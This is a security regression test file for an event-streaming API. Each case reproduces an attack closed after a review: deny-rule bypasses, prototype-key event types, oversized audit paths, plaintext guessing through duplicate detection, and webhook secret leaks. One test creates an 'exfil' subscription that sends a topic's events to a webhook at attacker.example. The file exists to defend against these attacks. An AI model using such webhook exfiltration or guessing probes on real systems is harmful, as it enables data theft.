import { describe, expect, it } from "vitest";
import { isAllowed, isGlobalAdmin, parseGrants } from "../../shared/security/grants";
import { allHeads, anonymousRequest, expectAccepted, expectProblem, postStructured, request, requestAs } from "../helpers";
import { asKey, auditOf, createTestKey, expectAccessDenied, jsonInit } from "./helpers";

/** Fixes from the security review: each case reproduces the attack it closes. */

const grants = (...texts: string[]) => parseGrants(texts).grants;

describe("a deny of a topic action also denies admin there", () => {
  it("grant logic: !consume:payments takes admin (webhooks, DLQ contents) and replay on payments", () => {
    const g = grants("admin:*", "!consume:payments");
    expect(isAllowed(g, "consume", "payments")).toBe(false);
    expect(isAllowed(g, "admin", "payments")).toBe(false);
    expect(isAllowed(g, "admin", "events")).toBe(true);
    // A replay sends the topic's events to a subscription: a deny of consume takes it too.
    expect(isAllowed(g, "replay", "payments")).toBe(false);
    expect(isAllowed(g, "replay", "events")).toBe(true);
    expect(isAllowed(grants("replay:payments", "!consume:payments"), "replay", "payments")).toBe(false);
    // Not the other way round: a deny of replay leaves consume.
    expect(isAllowed(grants("consume:payments", "!replay:payments"), "consume", "payments")).toBe(true);
    expect(isGlobalAdmin(g)).toBe(false);
    expect(isGlobalAdmin(grants("admin:*"))).toBe(true);
    expect(isAllowed(grants("admin:*", "!produce:orders"), "admin", "orders")).toBe(false);
  });

  it("a key with admin:* and !consume:events cannot send events to its own webhook, nor read the DLQ", async () => {
    const key = await createTestKey("deny-consume", ["admin:events", "!consume:events"]);
    const created = await asKey(
      key,
      "/v1/subscriptions",
      jsonInit({ name: `exfil-${crypto.randomUUID().slice(0, 8)}`, topic: "events", webhook: { url: "https://attacker.example/x" } }),
    );
    await expectAccessDenied(created, { actor: key.principal, reason: ["admin", "events"], attempted: "subscriptions.create" });
    const dlq = await asKey(key, "/v1/subscriptions/activity/dlq");
    await expectAccessDenied(dlq, { actor: key.principal, reason: ["admin", "events"] });
  });
});

describe("prototype keys are not event types", () => {
  it.each(["constructor", "__proto__", "toString", "hasOwnProperty"])(
    "type %s is stored like any other type (202, never a 5xx)",
    async (type) => {
      for (const topic of ["events", "customers"]) {
        const res = await postStructured(topic, {
          specversion: "1.0",
          id: crypto.randomUUID(),
          source: "/proto",
          type,
          subject: "s-1",
          data: { x: 1 },
        });
        await expectAccepted(res);
      }
    },
  );

  it("orders (strictTypes) refuses type constructor with a 422, not a 500", async () => {
    const res = await postStructured("orders", {
      specversion: "1.0",
      id: crypto.randomUUID(),
      source: "/proto",
      type: "constructor",
      data: {},
    });
    const problem = await expectProblem(res, 422);
    expect(problem.issues?.[0]?.path).toBe("/type");
  });
});

describe("audit records cannot be pushed over the event size limit", () => {
  it("a failed authentication on a 12 KB path of control characters is still audited, its path truncated", async () => {
    const path = `/v1/${"%01".repeat(4000)}`;
    const res = await anonymousRequest(path, { headers: { authorization: "Bearer not-a-real-token-at-all" } });
    const problem = await expectProblem(res, 401);
    const [record] = await auditOf(problem.requestId, "auth.failed");
    expect(record?.outcome).toBe("failure");
    expect(String(record?.path)).toContain("…(truncated, ");
    expect(String(record?.path).length).toBeLessThan(700);
  });
});

describe("the internal audit topic is for global admins only", () => {
  it("consume:* cannot read it, and does not see it listed; the admin can", async () => {
    const key = await createTestKey("consume-all", ["consume:*"]);
    const read = await asKey(key, "/v1/topics/audit/partitions/0/events");
    await expectAccessDenied(read, { actor: key.principal, reason: ["admin:*", "audit"] });
    const listed = (await (await asKey(key, "/v1/topics")).json()) as { topics: { name: string }[] };
    expect(listed.topics.map((t) => t.name)).not.toContain("audit");
    expect(listed.topics.map((t) => t.name)).toContain("events");
    expect((await request("/v1/topics/audit/partitions/0/events")).status).toBe(200);
  });
});

describe("duplicates of encrypted events do not reveal the plaintext", () => {
  it("a retry with a guessed value is a duplicate whether the guess is right or wrong; the first write stays", async () => {
    const key = await createTestKey("guesser", ["produce:customers", "consume:customers"]);
    const subject = `cust-${crypto.randomUUID()}`;
    const event = { specversion: "1.0", id: crypto.randomUUID(), source: "/guess", type: "customers.registered", subject };
    const [stored] = await expectAccepted(
      await postStructured("customers", { ...event, data: { email: "right@example.com", plan: "pro" } }),
    );
    const before = await allHeads();
    for (const guess of ["right@example.com", "wrong@example.com"]) {
      const res = await requestAs(key.key, "/v1/topics/customers/events", {
        method: "POST",
        headers: { "content-type": "application/cloudevents+json" },
        body: JSON.stringify({ ...event, data: { email: guess, plan: "pro" } }),
      });
      const [ack] = await expectAccepted(res);
      expect(ack).toMatchObject({ duplicate: true, sequence: stored?.sequence, partition: stored?.partition });
    }
    // A change outside the sensitive fields is still a conflict.
    const changed = await postStructured("customers", { ...event, data: { email: "right@example.com", plan: "free" } });
    await expectProblem(changed, 409);
    expect(await allHeads()).toEqual(before);
    const page = (await (
      await request(`/v1/topics/customers/partitions/${stored?.partition}/events?from=${stored?.sequence}&limit=1`)
    ).json()) as {
      events: { data: { email: string } }[];
    };
    expect(page.events[0]?.data.email).toBe("right@example.com");
  });
});

describe("webhook URLs and secrets", () => {
  it("only admins of the topic see a webhook's full URL; the create response is not cacheable", async () => {
    const name = `hook-${crypto.randomUUID().slice(0, 8)}`;
    const created = await request(
      "/v1/subscriptions",
      jsonInit({ name, topic: "events", webhook: { url: "https://hooks.example/p/s3cr3t-token?sig=abc" } }),
    );
    expect(created.status).toBe(201);
    expect(created.headers.get("cache-control")).toBe("no-store");
    const reader = await createTestKey("hook-reader", ["consume:events"]);
    const seen = (await (await asKey(reader, `/v1/subscriptions/${name}`)).json()) as { target: { url: string } };
    expect(seen.target.url).toBe("https://hooks.example/…");
    const listed = (await (await asKey(reader, "/v1/subscriptions")).json()) as {
      subscriptions: { name: string; target: { url?: string } }[];
    };
    expect(JSON.stringify(listed)).not.toContain("s3cr3t-token");
    const admin = (await (await request(`/v1/subscriptions/${name}`)).json()) as { target: { url: string } };
    expect(admin.target.url).toBe("https://hooks.example/p/s3cr3t-token?sig=abc");
    await request(`/v1/subscriptions/${name}`, { method: "DELETE" });
  });
});

describe("a resource with no topic is still behind the action", () => {
  it("a key without any replay grant gets 403 (not 404) for an unknown replay id", async () => {
    const key = await createTestKey("no-replay", ["produce:events"]);
    const id = () => `rpl_${crypto.randomUUID().replaceAll("-", "")}`;
    const res = await asKey(key, `/v1/replays/${id()}`);
    await expectAccessDenied(res, { actor: key.principal, reason: ["replay"] });
    expect((await request(`/v1/replays/${id()}`)).status).toBe(404);
  });
});
